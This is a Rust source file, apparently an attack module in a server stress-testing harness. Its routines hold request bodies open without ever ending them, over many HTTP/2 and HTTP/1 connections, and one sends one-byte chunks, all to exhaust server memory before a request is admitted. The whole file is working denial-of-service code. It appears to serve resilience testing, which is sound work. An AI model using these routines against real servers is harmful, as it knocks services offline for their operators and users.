//! A2: request bodies that never end, which use memory before a request is admitted.

use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};

use bytes::Bytes;
use tokio::task::JoinSet;

use crate::attack::{Attack, Target, on_server};
use crate::http1::{self, RawHttp1};
use crate::http2::{self, BodyEnd};
use crate::{rpc, runner};

pub(crate) fn attacks() -> Vec<Attack> {
    on_server![
        "A2" FourRequests two_hundred_bodies_on_one_http2_connection_never_end,
        "A2" Default two_hundred_bodies_on_one_http2_connection_never_end,
        "A2" Default bodies_on_thousands_of_connections_never_end,
        "A2" Default small_bodies_on_thousands_of_connections_never_end,
        "A2" Default bodies_on_hundreds_of_http2_connections_never_end,
        "A2" Default a_body_in_chunks_of_one_byte,
    ]
    .to_vec()
}

async fn two_hundred_bodies_on_one_http2_connection_never_end(
    target: Target,
) -> Result<String, String> {
    let sender = http2::connect(target.http, 1 << 20).await?;
    let sent = Arc::new(AtomicU64::new(0));
    let body = Bytes::from(vec![b' '; rpc::MAX_BODY]);
    let mut bodies = JoinSet::new();
    for _ in 0..200 {
        let (sender, body, sent) = (sender.clone(), body.clone(), sent.clone());
        bodies.spawn(async move {
            let (response, stream) = http2::begin(sender, http2::call("echo")).await.ok()?;
            let stream = http2::send(stream, body, BodyEnd::Never, sent).await;
            // Keeps both directions of the stream open.
            let _held = (response, stream);
            std::future::pending::<Option<()>>().await
        });
    }
    let sent = http2::wait_until_settled(&sent, 0, 200 * (rpc::MAX_BODY as u64 - 1)).await;
    let open = bodies.len();
    Ok(format!("{} MiB sent, {open} bodies open", sent >> 20))
}

/// Bytes received by a connection use memory before they are charged to a request.
async fn bodies_on_hundreds_of_http2_connections_never_end(
    target: Target,
) -> Result<String, String> {
    let sent = Arc::new(AtomicU64::new(0));
    let body = Bytes::from(vec![b' '; 2 << 20]);
    let mut bodies = JoinSet::new();
    for _ in 0..600 {
        let sender = http2::connect(target.http, 1 << 20).await?;
        let (body, sent) = (body.clone(), sent.clone());
        bodies.spawn(async move {
            let (response, stream) = http2::begin(sender, http2::call("echo")).await.ok()?;
            let stream = http2::send(stream, body, BodyEnd::Never, sent).await;
            let _held = (response, stream);
            std::future::pending::<Option<()>>().await
        });
    }
    let sent = http2::wait_until_settled(&sent, 100 << 20, 600 * ((2 << 20) - 1)).await;
    http2::expect_at_least(sent >> 20, 100, "MiB sent")?;
    Ok(format!(
        "{} MiB sent, {} bodies open",
        sent >> 20,
        bodies.len()
    ))
}

async fn bodies_on_thousands_of_connections_never_end(target: Target) -> Result<String, String> {
    never_end(target, 2000, rpc::MAX_BODY).await
}

/// Small requests have a separate reserve, which many of them can exhaust.
async fn small_bodies_on_thousands_of_connections_never_end(
    target: Target,
) -> Result<String, String> {
    never_end(target, 4000, 64 << 10).await
}

async fn never_end(target: Target, connections: usize, length: usize) -> Result<String, String> {
    let sent = Arc::new(AtomicU64::new(0));
    let body = Bytes::from(vec![b' '; length - 1]);
    let head = http1::post_head(&http1::call_headers("echo"), length);
    let mut bodies = JoinSet::new();
    for _ in 0..runner::connections(connections) {
        let (head, body, sent) = (head.clone(), body.clone(), sent.clone());
        let to = target.http;
        bodies.spawn(async move {
            let mut http = RawHttp1::connect(to).await.ok()?;
            http.write(head).await.ok()?;
            for piece in body.chunks(64 << 10) {
                http.write(piece).await.ok()?;
                sent.fetch_add(piece.len() as u64, Ordering::Relaxed);
            }
            let _held = http;
            std::future::pending::<Option<()>>().await
        });
    }
    let all = bodies.len() as u64 * (length as u64 - 1);
    let sent = http2::wait_until_settled(&sent, 100 << 20, all).await;
    http2::expect_at_least(sent >> 20, 100, "MiB sent")?;
    Ok(format!(
        "{} connections, {} MiB sent",
        bodies.len(),
        sent >> 20
    ))
}

async fn a_body_in_chunks_of_one_byte(target: Target) -> Result<String, String> {
    let sent = Arc::new(AtomicU64::new(0));
    let mut headers = http1::call_headers("echo");
    headers.push(("transfer-encoding", "chunked"));
    let head = http1::head("POST", &headers);
    let chunks = Bytes::from("1\r\n \r\n".repeat(10_000));
    let mut bodies = JoinSet::new();
    for _ in 0..8 {
        let (head, chunks, sent) = (head.clone(), chunks.clone(), sent.clone());
        let to = target.http;
        bodies.spawn(async move {
            let mut http = RawHttp1::connect(to).await.ok()?;
            http.write(head).await.ok()?;
            for _ in 0..30 {
                http.write(&chunks).await.ok()?;
                sent.fetch_add(10_000, Ordering::Relaxed);
            }
            let _held = http;
            std::future::pending::<Option<()>>().await
        });
    }
    let sent = http2::wait_until_settled(&sent, 0, 8 * 30 * 10_000).await;
    Ok(format!(
        "{sent} chunks sent over {} connections",
        bodies.len()
    ))
}
